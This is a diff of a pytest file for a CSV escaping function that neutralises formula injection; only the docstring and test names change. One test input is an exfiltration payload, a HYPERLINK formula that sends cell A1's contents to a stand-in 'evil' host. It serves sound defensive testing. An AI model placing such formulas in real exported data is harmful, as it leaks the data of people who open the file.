@@ -1,4 +1,4 @@
-"""No cell of a CSV file is a formula, and what programs read is what was meant."""
+"""CSV cells: no cell is a formula, and every text is read back exactly."""
 
 import csv
 import io
@@ -13,13 +13,13 @@ FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
 
 
 @pytest.mark.parametrize("begin", FORMULAS)
-def test_what_begins_like_a_formula_begins_with_an_apostrophe(begin: str) -> None:
+def test_text_like_a_formula_gets_an_apostrophe(begin: str) -> None:
     cell = f'{begin}HYPERLINK("http://evil?"&A1)'
     assert escape_cell(cell) == f"'{cell}"
 
 
 @pytest.mark.parametrize("cell", ["a=b", "week/-1.jpg", "'tis", "", 0.5, -1, "-0.000000", "+12"])
-def test_numbers_and_other_texts_are_written_as_they_are(cell: object) -> None:
+def test_numbers_and_other_texts_are_unchanged(cell: object) -> None:
     assert escape_cell(cell) == cell
 
 
